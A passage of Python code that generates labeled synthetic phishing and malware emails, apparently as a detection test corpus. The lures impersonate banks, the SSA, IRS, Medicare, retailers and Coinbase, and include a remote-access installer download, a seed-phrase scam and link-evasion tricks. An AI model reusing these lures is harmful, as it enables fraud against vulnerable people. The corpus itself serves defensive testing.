\tid 1txQ{tok("wf-ex", 3)}-{tok("wf-ex2", 7)}-{tok("wf-ex3", 2)}
\tfor {who[1]};
\t{fmt(t - sec(1), "America/Chicago")}
To: {who[1]}
Subject: Your Wells Fargo debit card has been temporarily restricted
X-PHP-Script: arcadiahomecare.net/wp-content/plugins/wp-mail-smtp-pro/includes/mailer.php for 185.220.101.44
X-PHP-Filename: /home1/arcadiah/public_html/wp-content/plugins/wp-mail-smtp-pro/includes/mailer.php REMOTE_ADDR: 185.220.101.44
Date: {fmt(t - sec(1))}
From: Wells Fargo Online <alerts@arcadiahomecare.net>
Message-ID: <{tok("wf-mid", 32)}@arcadiahomecare.net>
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0
X-AntiAbuse: This header was added to track abuse, please include it with any abuse report
X-AntiAbuse: Primary Hostname - gator4123.hostgator.com
X-AntiAbuse: Original Domain - sbcglobal.net
X-AntiAbuse: Originator/Caller UID/GID - [2314 2316] / [47 12]
X-AntiAbuse: Sender Address Domain - gator4123.hostgator.com
X-Get-Message-Sender-Via: gator4123.hostgator.com: authenticated_id: arcadiah/from_h
X-Authenticated-Sender: gator4123.hostgator.com: alerts@arcadiahomecare.net"""
    add("phish-wellsfargo-wordpress", "phishing",
        "Wells Fargo 'debit card restricted' notice sent by a PHP mailer script on a compromised home-care WordPress site (X-PHP-Script from a Tor exit), the sign-on page hidden in another compromised WordPress uploads folder.",
        "att", who[1], t, src, auth, head, alt(plain, html, "b1_" + tok("wf-b", 40)))


# ---- 24. Capital One purchase check with both buttons on a URL shortener ----
def _a_capitalone():
    who = KEVIN
    t = T("2025-08-07 02:44:19")
    dom = "c1-notification-center.com"
    yes, no = "https://rb.gy/8kq2zd", "https://rb.gy/c4m1xp"
    src = Src("103.251.167.20", f"mx1.{dom}", f"mx1.{dom}", f"noreply@{dom}")
    auth = Auth("pass", [(dom, "default", "pass")], "pass", "none", dom)
    plain = f"""Capital One

Did you make this purchase?

We noticed an unusual purchase attempt on your Quicksilver card ending in 3309.

Merchant: BESTBUY.COM 00012
Amount: $812.46
Date: August 6, 2025

Yes, it was me: {yes}
No, it wasn't me: {no}

If we don't hear from you, we may limit the use of your card.

Capital One Fraud Department
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f6f6f6;font-family:Optimist,Arial,sans-serif;">
<table width="560" align="center" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="padding:18px 24px;background:#004977;color:#fff;font-size:22px;font-weight:bold;">Capital One <span style="color:#d03027;">&#10148;</span></td></tr>
<tr><td style="padding:22px 24px 8px 24px;font-size:20px;color:#255f82;">Did you make this purchase?</td></tr>
<tr><td style="padding:0 24px;font-size:14px;color:#333;line-height:21px;">We noticed an unusual purchase attempt on your Quicksilver card ending in <b>3309</b>.</td></tr>
<tr><td style="padding:14px 24px;"><table cellpadding="6" style="font-size:14px;border:1px solid #ddd;width:100%;"><tr><td>Merchant</td><td><b>BESTBUY.COM 00012</b></td></tr><tr><td>Amount</td><td><b>$812.46</b></td></tr><tr><td>Date</td><td>August 6, 2025</td></tr></table></td></tr>
<tr><td style="padding:10px 24px;"><a href="{yes}" style="background:#255f82;color:#fff;padding:10px 20px;text-decoration:none;border-radius:4px;margin-right:10px;">Yes, it was me</a> &nbsp; <a href="{no}" style="background:#d03027;color:#fff;padding:10px 20px;text-decoration:none;border-radius:4px;">No, it wasn't me</a></td></tr>
<tr><td style="padding:18px 24px;font-size:12px;color:#777;">If we don't hear from you, we may limit the use of your card.<br>Capital One Fraud Department</td></tr>
</table></body></html>
"""
    head = vps_head(dom, f"mx1.{dom}", "c1", t, who[1], f"Capital One <noreply@{dom}>",
                    "Unusual purchase attempt on your card ending in 3309", tz="America/Chicago")
    add("phish-capitalone-shortener", "phishing",
        "Capital One 'did you make this $812.46 Best Buy purchase?' alert from a look-alike domain where both the 'yes' and 'no' buttons are rb.gy short links to the credential page.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, "=_" + hexs("c1-b", 30)))


# ---- 25. Navy Federal membership verification through Amazon SES ----
def _a_navyfed():
    who = RON
    t = T("2025-12-09 13:50:33")
    dom = "navyfed-memberservices.com"
    link = f"https://{dom}/verify/?m={num('nf-m', 9)}"
    sesid = f"0100019{hexs('nf-ses', 9)}-{uid('nf-sesu')}-000000"
    src = Src("54.240.8.27", "a8-27.smtp-out.amazonses.com", "a8-27.smtp-out.amazonses.com", f"{sesid}@amazonses.com")
    auth = Auth("pass", [(dom, tok("nf-sel", 32, "abcdefghijklmnopqrstuvwxyz234567"), "pass"), ("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", "pass")], "pass", "none", dom)
    plain = f"""Navy Federal Credit Union

Membership Information Review

Dear Member,

As part of our annual account review, we need you to confirm your contact
and identity information. Until the review is complete, some services such as
Zelle(R), bill pay and debit card purchases over $500 are unavailable.

Complete your review: {link}

Thank you for your service and your membership.

Navy Federal Credit Union
Federally insured by NCUA.
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="UTF-8"></head><body style="margin:0;background:#eef2f6;">
<table role="presentation" width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;">
<tr><td style="background:#0b2240;padding:16px 24px;color:#fff;font-size:18px;font-weight:bold;">NAVY FEDERAL <span style="font-weight:normal;">Credit Union</span></td></tr>
<tr><td style="padding:24px 24px 6px 24px;font-size:20px;color:#0b2240;">Membership Information Review</td></tr>
<tr><td style="padding:8px 24px;font-size:14px;color:#333;line-height:21px;">Dear Member,<br><br>As part of our annual account review, we need you to confirm your contact and identity information. Until the review is complete, some services such as Zelle&reg;, bill pay and debit card purchases over $500 are unavailable.</td></tr>
<tr><td style="padding:18px 24px;"><a href="{link}" style="background:#f2b81c;color:#0b2240;padding:12px 26px;text-decoration:none;font-weight:bold;border-radius:3px;">Complete Review</a></td></tr>
<tr><td style="padding:8px 24px 24px 24px;font-size:14px;color:#333;">Thank you for your service and your membership.</td></tr>
<tr><td style="padding:14px 24px;background:#f4f6f8;font-size:11px;color:#6a7684;">Navy Federal Credit Union. Federally insured by NCUA. Equal Housing Lender.</td></tr>
</table></body></html>
"""
    h = "Subject:From:To:Content-Type:MIME-Version:Message-ID:Date"
    head = f"""{dkim(dom, auth.dkim[0][1], h, "nf1", t)}
{dkim("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", h + ":Feedback-ID", "nf2", t)}
Subject: Membership Information Review Required
From: Navy Federal Credit Union <memberservices@{dom}>
To: {who[1]}
MIME-Version: 1.0
Message-ID: <{sesid}@email.amazonses.com>
Date: {fmt(t - sec(1))}
Feedback-ID: ::1.us-east-1.{b64("nf-fb", 43)}=:AmazonSES
X-SES-Outgoing: {t.strftime('%Y.%m.%d')}-54.240.8.27"""
    add("phish-navyfederal-ses", "phishing",
        "Navy Federal 'membership information review' (services suspended until you verify) sent through Amazon SES on the look-alike domain navyfed-memberservices.com with aligned DKIM, credential form on the same domain.",
        "yahoo", who[1], t, src, auth, head, alt(plain, html, "----=_Part_" + num("nf-b", 7) + "_" + num("nf-b2", 9) + "." + str(ep(t)) + "112"))



# ---- 26. SSA statement "viewer" that is a ScreenConnect installer (malware, linked) ----
def _m_ssa_rat():
    who = LINDA
    t = T("2025-09-08 15:26:04")
    dom = "ssa-gov-statements.com"
    link = "https://www.hollandpaintingco.com/ssa/statement/SocialSecurityStatement.ClientSetup.exe"
    src = Src("172.86.89.14", f"mail.{dom}", f"mail.{dom}", f"statement@{dom}")
    auth = Auth("pass", [(dom, "default", "pass")], "pass", "none", dom)
    plain = f"""Social Security Administration

Your Social Security Statement is ready

Dear Beneficiary,

Your updated Social Security Statement for 2025 has been issued and is
available for download. The Statement includes your earnings record and
estimates of your future benefits. Please review it carefully and report any
errors.

For your security the Statement is encrypted and must be opened with the SSA
Secure Statement Viewer for Windows:

Download Statement: {link}

Open the downloaded file and follow the prompts to view your Statement.

Social Security Administration
6401 Security Blvd, Baltimore, MD 21235
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f0f0f0;font-family:'Source Sans Pro',Helvetica,Arial,sans-serif;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="background:#0b4778;padding:16px 24px;color:#fff;"><span style="font-size:20px;font-weight:bold;">Social Security</span><br><span style="font-size:12px;">Social Security Administration</span></td></tr>
<tr><td style="padding:24px 24px 8px 24px;font-size:22px;color:#0b4778;">Your Social Security Statement is ready</td></tr>
<tr><td style="padding:0 24px;font-size:15px;color:#212121;line-height:23px;">Dear Beneficiary,<br><br>Your updated Social Security Statement for 2025 has been issued and is available for download. The Statement includes your earnings record and estimates of your future benefits. Please review it carefully and report any errors.<br><br>For your security the Statement is encrypted and must be opened with the <b>SSA Secure Statement Viewer</b> for Windows.</td></tr>
<tr><td style="padding:22px 24px;"><a href="{link}" style="background:#0071bc;color:#fff;padding:12px 28px;text-decoration:none;font-weight:bold;border-radius:4px;">Download Statement</a></td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:13px;color:#5b616b;">Open the downloaded file and follow the prompts to view your Statement.</td></tr>
<tr><td style="padding:14px 24px;background:#f1f1f1;font-size:11px;color:#5b616b;">Social Security Administration &middot; 6401 Security Blvd, Baltimore, MD 21235</td></tr>
</table></body></html>
"""
    head = vps_head(dom, f"mail.{dom}", "ssa", t, who[1], f"Social Security Administration <statement@{dom}>",
                    "Your Social Security Statement is ready to view", tz="America/New_York")
    add("malware-ssa-statement-screenconnect", "malware",
        "SSA 'your Statement is ready, open it with the Secure Statement Viewer' lure from a look-alike domain whose download link is a ScreenConnect ClientSetup.exe remote-access installer hosted on a compromised site.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, "=_" + hexs("ssa-b", 30)))


# ---- 27. SSA COLA notice with a PDF carrying the link, from a compromised GoDaddy cPanel mailbox ----
def _a_ssa_cola():
    who = MARGARET
    t = T("2025-10-27 14:05:49")
    snd = "outreach@harmonyseniorliving-oh.org"
    link = "https://ssa-cola2026.help/verify?ref=COLA26-" + num("co-r", 6)
    src = Src("198.71.226.33", "p3plzcpnl506854.prod.phx3.secureserver.net", "p3plzcpnl506854.prod.phx3.secureserver.net", snd)
    auth = Auth("pass", [("harmonyseniorliving-oh.org", "default", "pass")], "none", hfrom="harmonyseniorliving-oh.org")
    pdf = files.pdf([
        "SOCIAL SECURITY ADMINISTRATION",
        "Notice of 2026 Cost-of-Living Adjustment (COLA)",
        "",
        "Beginning with your January 2026 payment, your monthly benefit",
        "will increase by 2.8 percent.",
        "",
        "Before the new amount can be applied, we must confirm the",
        "information we have on file for you (name, date of birth,",
        "Social Security number and the account where you receive",
        "your payments).",
        "",
        "If your information is not confirmed by November 15, 2025,",
        "your increase may be delayed.",
        "",
        "Select REVIEW DOCUMENT below to confirm your information.",
    ], link=(link, (56, 520, 300, 556)), title="SSA COLA Notice 2026")
    plain = """Social Security Administration

Your 2026 Cost-of-Living Adjustment notice is attached.

Beginning January 2026 your monthly benefit will increase. Please review the
attached notice and confirm your information so the increase can be applied
on time.

Social Security Administration
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head><body style='font-size: 11pt; font-family: Arial,Helvetica,sans-serif'>
<p><strong>Social Security Administration</strong></p>
<p>Your 2026 Cost-of-Living Adjustment notice is attached.</p>
<p>Beginning January 2026 your monthly benefit will increase. Please review the attached notice and confirm your information so the increase can be applied on time.</p>
<p>Social Security Administration</p>
</body></html>
"""
    body = Multi("mixed", "=_" + hexs("co-mix", 32), [
        Multi("alternative", "=_" + hexs("co-alt", 32), [text(plain), text(html, "html")]),
        attachment("application/pdf", "SSA_COLA_Notice_2026.pdf", pdf),
    ])
    head = f"""{dkim("harmonyseniorliving-oh.org", "default", "Message-ID:Subject:To:From:Date:Content-Type:MIME-Version:Sender:Reply-To:Cc", "co", t)}
{exim_hop("p3plzcpnl506854.prod.phx3.secureserver.net", "::1", "p3plzcpnl506854.prod.phx3.secureserver.net", snd, who[1], t - sec(2), "co")}
MIME-Version: 1.0
Date: {fmt(t - sec(3), "America/Phoenix")}
From: "SSA.gov" <{snd}>
To: undisclosed-recipients:;
Subject: Your 2026 COLA notice is available
Message-ID: <{hexs("co-mid", 32)}@harmonyseniorliving-oh.org>
X-Sender: {snd}
User-Agent: Roundcube Webmail/1.6.7
X-AntiAbuse: This header was added to track abuse, please include it with any abuse report
X-AntiAbuse: Primary Hostname - p3plzcpnl506854.prod.phx3.secureserver.net
X-AntiAbuse: Original Domain - me.com
X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]
X-AntiAbuse: Sender Address Domain - harmonyseniorliving-oh.org
X-Get-Message-Sender-Via: p3plzcpnl506854.prod.phx3.secureserver.net: authenticated_id: {snd}
X-Authenticated-Sender: p3plzcpnl506854.prod.phx3.secureserver.net: {snd}"""
    add("phish-ssa-cola-pdf", "phishing",
        "SSA '2026 cost-of-living adjustment notice' from a compromised senior-living mailbox on GoDaddy cPanel; the attached PDF's REVIEW DOCUMENT link goes to ssa-cola2026.help to collect SSN and bank details.",
        "icloud", who[1], t, src, auth, head, body)


# ---- 28. IRS refund pending, lure page hosted as a Canva design ----
def _a_irs():
    who = CAROL
    t = T("2026-03-03 17:22:36")
    dom = "irs-refundtrack.help"
    link = f"https://www.canva.com/design/DAG{tok('irs-cv', 8)}/{tok('irs-cv2', 22)}/view?utm_content=DAG{tok('irs-cv', 8)}&amp;utm_campaign=designshare&amp;utm_medium=link2&amp;utm_source=uniquelinks"
    src = Src("141.98.11.72", f"mail.{dom}", f"mail.{dom}", f"e-file@{dom}")
    auth = Auth("pass", [(dom, "mail", "pass")], "none", hfrom=dom)
    plain = f"""Internal Revenue Service

Refund Status: Action Required

After the last annual calculation of your fiscal activity we have determined
that you are eligible to receive a federal tax refund of $1,286.40 for tax
year 2025.

Your refund could not be deposited because the bank information on your
return does not match our records. View your refund notice and update your
deposit details:

{link.replace('&amp;', '&')}

Internal Revenue Service
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;color:#1b1b1b;">
<div style="max-width:580px;border:1px solid #ccc;">
<div style="background:#00599c;color:#fff;padding:14px 20px;font-size:22px;font-weight:bold;">IRS</div>
<div style="padding:20px;font-size:14px;line-height:21px;">
<p style="font-size:18px;"><b>Refund Status: Action Required</b></p>
<p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a federal tax refund of <b>$1,286.40</b> for tax year 2025.</p>
<p>Your refund could not be deposited because the bank information on your return does not match our records.</p>
<p><a href="{link}" style="color:#00599c;font-weight:bold;">View your refund notice</a></p>
<p style="font-size:12px;color:#666;">Internal Revenue Service</p>
</div></div></body></html>
"""
    head = vps_head(dom, f"mail.{dom}", "irs", t, who[1], f"IRS Online Services <e-file@{dom}>",
                    "Your 2025 federal tax refund is on hold", selector="mail", tz="America/New_York")
    add("phish-irs-refund-canva", "phishing",
        "IRS 'refund of $1,286.40 on hold, update your deposit details' lure from the look-alike domain irs-refundtrack.help whose link is a shared Canva design that fronts the phishing form.",
        "comcast", who[1], t, src, auth, head, alt(plain, html, "=_" + hexs("irs-b", 30)))


# ---- 29. Medicare plastic card "update", page on Webflow ----
def _a_medicare():
    who = PATRICIA
    t = T("2025-10-21 15:48:12")
    dom = "medicare-cardservices.org"
    link = "https://medicare-card-update.webflow.io/confirm"
    src = Src("185.224.128.77", f"out.{dom}", f"out.{dom}", f"cards@{dom}")
    auth = Auth("pass", [(dom, "s2025", "pass")], "none", hfrom=dom)
    plain = f"""Medicare

Your new Medicare card

Medicare is replacing paper Medicare cards with a new durable card with a
chip. To receive your new card by mail, you must confirm your Medicare Number
and mailing address by October 31, 2025.

If we cannot confirm your information, your current card may be deactivated
and claims could be delayed.

Confirm now: {link}

Centers for Medicare & Medicaid Services
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial,Helvetica,sans-serif;background:#f3f6f9;margin:0;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="padding:16px 24px;border-bottom:3px solid #0071bc;font-size:24px;color:#0071bc;font-weight:bold;">Medicare<span style="font-size:12px;color:#555;font-weight:normal;">.gov</span></td></tr>
<tr><td style="padding:22px 24px 6px 24px;font-size:20px;color:#212121;">Your new Medicare card</td></tr>
<tr><td style="padding:0 24px;font-size:15px;color:#212121;line-height:23px;">Medicare is replacing paper Medicare cards with a new durable card with a chip. To receive your new card by mail, you must confirm your Medicare Number and mailing address by <b>October 31, 2025</b>.<br><br>If we cannot confirm your information, your current card may be deactivated and claims could be delayed.</td></tr>
<tr><td style="padding:20px 24px;"><a href="{link}" style="background:#0071bc;color:#fff;padding:12px 26px;text-decoration:none;border-radius:3px;">Confirm my information</a></td></tr>
<tr><td style="padding:14px 24px;background:#f1f1f1;font-size:11px;color:#555;">Centers for Medicare &amp; Medicaid Services &middot; 7500 Security Boulevard, Baltimore, MD 21244</td></tr>
</table></body></html>
"""
    head = vps_head(dom, f"out.{dom}", "mc", t, who[1], f"Medicare <cards@{dom}>",
                    "Action needed: confirm your address for your new Medicare card", selector="s2025", tz="America/New_York")
    add("phish-medicare-plastic-card", "phishing",
        "'Medicare is replacing paper cards with a plastic chip card, confirm your Medicare Number' lure from a look-alike .org, form hosted on Webflow (webflow.io).",
        "yahoo", who[1], t, src, auth, head, alt(plain, html, "=_" + hexs("mc-b", 30)))


# ---- 30. Health-plan "flex card / OTC allowance" via an abused Mailgun account ----
def _a_flexcard():
    who = BEVERLY
    t = T("2026-01-20 16:10:27")
    dom = "seniorflexbenefit.com"
    click = f"https://email.{dom}/c/eJx{b64('fl-c', 150).replace('/', '_').replace('+', '-')}"
    mf = f"bounce+{hexs('fl-mf', 6)}.{hexs('fl-mf2', 6)}-bhaines47=att.net@{dom}"
    src = Src("69.72.42.7", "m42-7.mailgun.net", "m42-7.mailgun.net", mf)
    auth = Auth("pass", [(dom, "pic", "pass"), ("mailgun.org", "mg", "pass")], "pass", "none", dom)
    plain = f"""Your 2026 Flex Card is ready to activate

Hello Beverly,

Good news: based on your ZIP code and Medicare eligibility you qualify for
a 2026 Flex Card preloaded with up to $3,600 per year for groceries,
over-the-counter items, rent and utilities.

Activate your card before January 31 to keep your benefit:
{click}

Or call a licensed benefits specialist: 1-833-614-2287 (TTY 711),
8 am - 8 pm, 7 days a week.

Senior Flex Benefits Center
Not affiliated with or endorsed by the U.S. government or the federal Medicare program.
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#ffffff;font-family:Arial,sans-serif;">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="background:#1f6f4a;padding:16px 24px;color:#fff;font-size:20px;font-weight:bold;">2026 Flex Card Benefits</td></tr>
<tr><td style="padding:22px 24px;font-size:15px;color:#222;line-height:23px;">Hello Beverly,<br><br>Good news: based on your ZIP code and Medicare eligibility you qualify for a <b>2026 Flex Card</b> preloaded with up to <b>$3,600 per year</b> for groceries, over-the-counter items, rent and utilities.<br><br>Activate your card before <b>January 31</b> to keep your benefit.</td></tr>
<tr><td style="padding:0 24px 16px 24px;"><a href="{click}" style="background:#f5a623;color:#000;padding:13px 30px;text-decoration:none;font-weight:bold;border-radius:26px;">Activate My Card</a></td></tr>
<tr><td style="padding:0 24px 20px 24px;font-size:14px;color:#222;">Or call a licensed benefits specialist: <b>1-833-614-2287</b> (TTY 711), 8 am - 8 pm, 7 days a week.</td></tr>
<tr><td style="padding:14px 24px;font-size:10px;color:#777;border-top:1px solid #ddd;">Senior Flex Benefits Center. Not affiliated with or endorsed by the U.S. government or the federal Medicare program. <a href="https://email.{dom}/u/eJx{b64('fl-u', 80).replace('/', '_').replace('+', '-')}" style="color:#777;">Unsubscribe</a></td></tr>
</table>
<img width="1px" height="1px" alt="" src="https://email.{dom}/o/eJx{b64('fl-o', 90).replace('/', '_').replace('+', '-')}"></body></html>
"""
    head = f"""{dkim(dom, "pic", "Content-Transfer-Encoding:Content-Type:From:Mime-Version:Subject:Subject:To:To:Message-Id:Date:Sender:Sender", "fl1", t)}
{dkim("mailgun.org", "mg", "Content-Transfer-Encoding:Content-Type:From:Mime-Version:Subject:Subject:To:To:Message-Id:Date:Sender:Sender", "fl2", t)}
X-Mailgun-Sending-Ip: 69.72.42.7
X-Mailgun-Sid: WyI{b64("fl-sid", 40)}IiwgImJoYWluZXM0N0BhdHQubmV0IiwgIjZhNGYiXQ==
Received: by {hexs("fl-h", 12)} with HTTP id {hexs("fl-hid", 24)}; {fmt(t - sec(1))}
X-Mailgun-Batch-Id: {hexs("fl-batch", 24)}
Sender: help@{dom}
Mime-Version: 1.0
Subject: Beverly, your 2026 Flex Card is ready to activate
From: Senior Flex Benefits <help@{dom}>
To: {who[1]}
Message-Id: <{t.strftime('%Y%m%d%H%M%S')}.{hexs("fl-mid", 16)}@{dom}>
Date: {fmt(t - sec(1))}
List-Unsubscribe: <https://email.{dom}/u/eJx{b64('fl-u', 80).replace('/', '_').replace('+', '-')}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click"""
    add("phish-flexcard-otc-mailgun", "phishing",
        "Medicare 'Flex Card with $3,600 for groceries and OTC items' health-insurance lure sent through an abused Mailgun account (SPF/DKIM pass, Mailgun click tracking) to harvest Medicare and personal details or get a phone call.",
        "att", who[1], t, src, auth, head, alt(plain, html, hexs("fl-b", 32)))


# ---- 31. Costco reward survey spam, random .rest domain, landed in Junk ----
def _a_costco():
    who = GARY
    t = T("2025-05-06 23:51:08")
    dom = "q2h5n8kt.rest"
    r = lambda k: f"https://{dom}/r/{b64('cs-' + k, 48).replace('/', '_').replace('+', '-')}"  # noqa: E731
    mf = f"bounce-{num('cs-mf', 6)}@{dom}"
    src = Src("23.146.184.51", f"mta-{num('cs-h', 2)}.{dom}", f"mta-{num('cs-h', 2)}.{dom}", mf)
    auth = Auth("pass", [(dom, "mx", "pass")], "pass", "none", dom)
    filler = "<br>".join(" ".join(tok(f"cs-w{i}-{j}", int(hexs(f'cs-l{i}{j}', 1), 16) % 6 + 3, string.ascii_lowercase) for j in range(14)) for i in range(8))
    plain = f"""Costco Member Rewards

Gary, congratulations!

You have been selected to receive a Dyson Airwrap (valued at $599) as part of
our member appreciation program. Answer 4 quick questions about your recent
warehouse visit to claim it. Just pay shipping.

Start the survey: {r('a')}

Offer ID #8821. Expires 05/08/2025.

To stop receiving these messages: {r('u')}
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body>
<center>
<table width="580" cellpadding="0" cellspacing="0" style="font-family:Arial,sans-serif;">
<tr><td align="center" style="padding:10px 0;"><a href="{r('b')}"><img src="https://{dom}/i/cst-hdr.png" width="580" alt="Costco Member Rewards" style="display:block;border:0;"></a></td></tr>
<tr><td align="center" style="padding:14px 20px;font-size:24px;color:#005daa;font-weight:bold;">Gary, congratulations!</td></tr>
<tr><td align="center" style="padding:0 30px;font-size:16px;color:#333;line-height:24px;">You have been selected to receive a <b>Dyson Airwrap</b> (valued at $599) as part of our member appreciation program. Answer 4 quick questions about your recent warehouse visit to claim it. Just pay shipping.</td></tr>
<tr><td align="center" style="padding:20px;"><a href="{r('a')}"><img src="https://{dom}/i/dyson-aw.jpg" width="300" alt="Claim your reward" style="border:0;"></a></td></tr>
<tr><td align="center" style="padding:0 0 24px 0;"><a href="{r('a')}" style="background:#e31837;color:#fff;padding:14px 40px;font-size:18px;font-weight:bold;text-decoration:none;border-radius:4px;">START SURVEY</a></td></tr>
<tr><td align="center" style="font-size:11px;color:#999;padding:10px 20px;">Offer ID #8821. Expires 05/08/2025.<br>To stop receiving these messages <a href="{r('u')}" style="color:#999;">click here</a> or write to 1540 N Loop W #118, Houston TX 77008</td></tr>
</table>
<div style="color:#ffffff;font-size:2px;line-height:2px;">{filler}</div>
</center>
<img src="https://{dom}/o/{b64('cs-px', 40).replace('/', '_').replace('+', '-')}.gif" width="1" height="1" alt="">
</body></html>
"""
    head = vps_head(dom, f"mta-{num('cs-h', 2)}.{dom}", "cs", t, who[1], f"Costco Member Rewards <hello@{dom}>",
                    "Gary, confirm your Costco member reward (#8821)", selector="mx", tz="America/Los_Angeles",
                    extra=f"List-Unsubscribe: <{r('u')}>, <mailto:unsub-{num('cs-u', 6)}@{dom}>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\nX-Campaign: cst-8821")
    add("phish-costco-reward-survey", "phishing",
        "Costco 'you have been selected for a Dyson Airwrap, answer 4 questions, pay shipping' reward-survey scam from a random .rest domain with image lure, white hidden filler text and tracked redirect links (filed to Junk).",
        "outlook", who[1], t, src, auth, head, alt(plain, html, "----=_Part_" + num("cs-b", 7) + "_" + num("cs-b2", 8) + "." + str(ep(t)) + "008"), junk=True)


# ---- 32. Kohl's rewards points expiring, link through the Google Translate proxy ----
def _a_kohls():
    who = EMILY
    t = T("2025-12-16 01:27:44")
    dom = "kohls-pointscenter.sbs"
    link = "https://kohls--pointscenter-sbs.translate.goog/redeem/?_x_tr_sl=auto&amp;_x_tr_tl=en&amp;_x_tr_hl=en&amp;_x_tr_pto=wapp&amp;uid=" + num("kh-u", 8)
    src = Src("5.181.190.114", f"mail.{dom}", f"mail.{dom}", f"rewards@{dom}")
    auth = Auth("pass", [(dom, "default", "pass")], "pass", "none", dom)
    plain = f"""Kohl's Rewards

Your 1,240 Kohl's Rewards points expire tonight at 11:59 PM.

That's $12.40 in Kohl's Cash you can still use this season. Redeem now and
we'll add a bonus $10 for the holidays.

Redeem my points: {link.replace('&amp;', '&')}

Kohl's Rewards
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#fff;font-family:Arial,sans-serif;">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td align="center" style="padding:18px;font-size:30px;font-weight:bold;color:#000;letter-spacing:2px;">KOHL'S</td></tr>
<tr><td align="center" style="background:#7c2e93;color:#fff;padding:26px 20px;font-size:22px;line-height:30px;">Your <b>1,240</b> Kohl's Rewards points<br>expire tonight at 11:59 PM</td></tr>
<tr><td align="center" style="padding:22px 40px;font-size:15px;color:#333;line-height:22px;">That's $12.40 in Kohl's Cash you can still use this season. Redeem now and we'll add a bonus $10 for the holidays.</td></tr>
<tr><td align="center" style="padding:0 0 30px 0;"><a href="{link}" style="background:#000;color:#fff;padding:14px 36px;text-decoration:none;font-weight:bold;">REDEEM MY POINTS</a></td></tr>
<tr><td align="center" style="font-size:10px;color:#999;padding-bottom:20px;">Kohl's Rewards &middot; N56 W17000 Ridgewood Dr, Menomonee Falls, WI 53051</td></tr>
</table></body></html>
"""
    head = vps_head(dom, f"mail.{dom}", "kh", t, who[1], f"Kohl's Rewards <rewards@{dom}>",
                    "Your Kohl's Rewards points expire tonight")
    add("phish-kohls-points-translate-proxy", "phishing",
        "Kohl's 'your 1,240 rewards points expire tonight' lure from a .sbs look-alike domain whose link is wrapped in the Google Translate proxy (translate.goog) to borrow Google's reputation.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, "=_" + hexs("kh-b", 30)))


# ---- 33. Coinbase "move to self-custody with this recovery phrase" via Amazon SES ----
def _a_coinbase():
    who = KEVIN
    t = T("2025-05-26 13:02:55")
    dom = "coinbase-wallet-transition.com"
    sesid = f"0100019{hexs('cb-ses', 9)}-{uid('cb-sesu')}-000000"
    src = Src("54.240.9.41", "a9-41.smtp-out.amazonses.com", "a9-41.smtp-out.amazonses.com", f"{sesid}@amazonses.com")
    sel = tok("cb-sel", 32, "abcdefghijklmnopqrstuvwxyz234567")
    auth = Auth("pass", [(dom, sel, "pass"), ("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", "pass")], "pass", "none", dom)
    words = ["orbit", "candle", "frost", "witness", "tribe", "velvet", "oyster", "harbor", "glimpse", "ladder", "spoon", "crystal"]
    numbered = "\n".join(f"  {i + 1:>2}. {w}" for i, w in enumerate(words))
    cells = "".join(f'<td style="padding:6px 10px;border:1px solid #dfe3ea;font-family:Menlo,monospace;font-size:14px;">{i + 1}. {w}</td>' + ("</tr><tr>" if i % 3 == 2 and i < 11 else "") for i, w in enumerate(words))
    plain = f"""Coinbase

Important: your account is moving to self-custody

Following the security incident disclosed on May 15, 2025 and a
court-ordered lawsuit, Coinbase is migrating customer assets to
self-custodial Coinbase Wallets. Your assets will be moved automatically to
a new wallet secured by the recovery phrase below, which has been
pre-generated for you:

{numbered}

To complete the transition, open Coinbase Wallet, choose "I already have a
wallet" and import the phrase above. Your balance will appear within 24
hours. Do not share this phrase with anyone.

Coinbase Security Team
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f7f8f9;font-family:'Coinbase Sans',Inter,Arial,sans-serif;color:#0a0b0d;">
<table width="560" align="center" cellpadding="0" cellspacing="0" style="background:#fff;margin-top:24px;border-radius:8px;">
<tr><td style="padding:28px 32px 0 32px;font-size:26px;font-weight:bold;color:#0052ff;">coinbase</td></tr>
<tr><td style="padding:18px 32px 6px 32px;font-size:20px;font-weight:600;">Important: your account is moving to self-custody</td></tr>
<tr><td style="padding:6px 32px;font-size:15px;line-height:23px;color:#32353d;">Following the security incident disclosed on May 15, 2025 and a court-ordered lawsuit, Coinbase is migrating customer assets to self-custodial Coinbase Wallets. Your assets will be moved automatically to a new wallet secured by the recovery phrase below, which has been pre-generated for you:</td></tr>
<tr><td style="padding:14px 32px;"><table cellpadding="0" cellspacing="6" style="background:#f5f8ff;"><tr>{cells}</tr></table></td></tr>
